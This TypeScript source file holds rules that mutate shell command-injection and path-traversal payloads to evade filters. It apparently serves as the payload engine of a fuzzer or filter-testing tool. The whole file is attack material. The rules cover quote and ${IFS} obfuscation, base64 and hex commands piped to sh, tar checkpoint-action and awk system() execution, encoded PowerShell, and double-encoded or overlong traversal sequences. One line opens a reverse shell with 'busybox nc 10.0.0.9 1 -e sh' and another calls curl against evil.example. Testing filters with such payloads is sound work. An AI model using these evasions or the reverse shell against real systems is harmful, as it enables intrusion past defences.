import { type Rewriting, swap } from './rewriting.ts';

const COMMANDS = /\b(cat|id|whoami|curl|wget|uname|sleep|bash|ping|ls|nc|env|rm)\b(?=[^/.]|$)/g;
const within = (word: string, between: string): string => (word.length < 2 ? word : `${word[0]}${between}${word.slice(1)}`);

/** Shells: sh, cmd, PowerShell. */
export const SHELL: readonly Rewriting[] = [
  {
    name: "shell: quotes within (c''at)",
    apply: (text, draw) => swap(text, COMMANDS, (word) => within(word, draw.of(["''", '""', '\'""\'']))),
  },
  { name: 'shell: backslashes within', apply: (text) => swap(text, COMMANDS, (word) => within(word, '\\')) },
  {
    name: 'shell: $@ and empty variables within',
    apply: (text, draw) => swap(text, COMMANDS, (word) => within(word, draw.of(['$@', '${x}', '$*', '${@}', '$()', '``']))),
  },
  {
    name: 'shell: ${IFS} for blanks',
    apply: (text, draw) => swap(text, /(\w) (?=[\w/-])/g, (_, before) => `${before}${draw.of(['${IFS}', '$IFS$9', '${IFS%?}', '$IFS'])}`),
  },
  { name: 'shell: braces', apply: (text) => swap(text, /\b(cat|curl|wget|ls|uname|sleep) (\S+?)(?=[;)]|$| )/, '{$1,$2}') },
  {
    name: 'shell: wildcards',
    apply: (text) =>
      swap(
        swap(text, /\/etc\/passwd/g, '/e??/p?ss??') ?? text,
        /\b(cat|id|whoami|uname|ls|nc) ?/g,
        (_, word) => `/???/${word![0]}??${word!.length > 3 ? '*' : ''} `,
      ),
  },
  { name: 'shell: redirection for a blank', apply: (text) => swap(text, /\bcat (\/\S+)/, 'cat<$1') },
  { name: 'shell: names in variables', apply: (text) => swap(text, /^; (\w)(\w+)/, '; a=$1;b=$2;$a$b') },
  { name: 'shell: line ends for ;', apply: (text, draw) => swap(text, /;|&&|\|\|/g, () => draw.of(['\n', '\r\n', '%0a', '|'])) },
  {
    name: 'shell: base64 to a shell',
    apply: (text, draw) =>
      swap(
        text,
        /^[;|&]+ (.+)$/,
        (_, command) =>
          `${draw.of([';', '|', '&&', '\n'])}${draw.of([`echo ${Buffer.from(command!).toString('base64')}|base64 -d|sh`, `bash<<<$(base64 -d<<<${Buffer.from(command!).toString('base64')})`, `eval $(echo ${Buffer.from(command!).toString('hex')}|xxd -r -p)`, `$(printf '${[...Buffer.from(command!)].map((byte) => `\\x${byte.toString(16)}`).join('')}')`])}`,
      ),
  },
  {
    name: 'shell: reversed, or by tr',
    apply: (text, draw) =>
      swap(text, /^[;|&]+ (cat \/etc\/passwd|id|whoami|uname -a|env|ls -la \/)$/, (_, command) =>
        draw.of([`;$(rev<<<'${[...command!].reverse().join('')}')`, `;$(tr '[A-Z]' '[a-z]'<<<"${command!.toUpperCase()}")`]),
      ),
  },
  { name: 'shell: substitution in substitution', apply: (text) => swap(text, /^[;|&]+ (.+)$/, '$($($(echo $1)))') },
  { name: 'shell: tabs for blanks', apply: (text) => swap(text, / /g, '\t') },
  {
    name: 'shell: options of a program',
    apply: (text, draw) =>
      swap(text, /^; cat (\S+)$|^\| id$/, (_, file) =>
        draw.of([
          `--checkpoint=1 --checkpoint-action=exec=sh -c id`,
          `-oProxyCommand=curl${'$'}{IFS}evil.example`,
          `; xxd ${file ?? '/etc/passwd'}`,
          `; awk 'BEGIN {system("id")}'`,
          `; find . -exec id \\;`,
          `; tac ${file ?? '/etc/passwd'}`,
          `; busybox nc 10.0.0.9 1 -e sh`,
        ]),
      ),
  },
  {
    name: 'cmd: carets and quotes',
    apply: (text) => swap(swap(text, /\b(type|net|powershell)\b/g, (word) => within(word, '^')) ?? text, /\bwhoami\b/g, 'wh^o^am"i"'),
  },
  {
    name: 'PowerShell: encoded command',
    apply: (text, draw) =>
      swap(
        text,
        /powershell -c "(.+)"/,
        (_, code) =>
          `${draw.of(['powershell -enc', 'powershell.exe -NoP -e', 'pwsh -EncodedCommand', 'powershell /ec'])} ${Buffer.from(code!, 'utf16le').toString('base64')}`,
      ),
  },
  { name: 'cmd: variables for signs', apply: (text) => swap(text, /C:\\Windows\\/g, '%SystemRoot%%ProgramFiles:~2,1%') },
];

/** Paths of files. */
export const PATHS: readonly Rewriting[] = [
  { name: 'path: ....//', apply: (text) => swap(text, /\.\.([/\\])/g, '....$1$1') },
  { name: 'path: ..;/', apply: (text) => swap(text, /\.\.\//g, '..;/') },
  { name: 'path: backslashes', apply: (text) => swap(text, /\//g, '\\') },
  {
    name: 'path: mixed slashes',
    apply: (text, draw) => swap(text, /\.\.[/\\]/g, () => draw.of(['..\\/', '..//', '../\\', '..\\\\', './../'])),
  },
  {
    name: 'path: dots encoded',
    apply: (text, draw) =>
      swap(text, /\.\./g, () => draw.of(['%2e%2e', '.%2e', '%2E.', '%252e%252e', '%c0%ae%c0%ae', '%uff0e%uff0e', '%%32%65%%32%65'])),
  },
  {
    name: 'path: slashes encoded',
    apply: (text, draw) => swap(text, /\//g, () => draw.of(['%2f', '%252f', '%c0%af', '%5c', '%u2215', '%e0%80%af'])),
  },
  { name: 'path: NUL and another ending', apply: (text, draw) => `${text}${draw.of(['\0', '%00'])}.png` },
  { name: 'path: from a folder that is there', apply: (text) => (text.startsWith('..') ? `/var/www/html/${text}` : null) },
  {
    name: 'path: dots and slashes between',
    apply: (text, draw) => swap(text, /\/(?=\w)/g, () => draw.of(['/./', '//', '/././', '/x/../'])),
  },
  {
    name: 'path: as a URL of a file',
    apply: (text, draw) =>
      `${draw.of(['file:///', 'file:', 'file://localhost/', 'php://filter/read=string.rot13/resource=', 'zip://', 'jar:file:///'])}${text}`,
  },
  { name: 'path: quotes or blanks at the end', apply: (text, draw) => `${text}${draw.of(['/.', '.', ' ', '?', '#', '::$DATA', '/'])}` },
  { name: 'path: UNC and device names', apply: (text) => swap(text, /^(?:\.\.[/\\])+|^\//, '\\\\?\\C:\\..\\') },
];
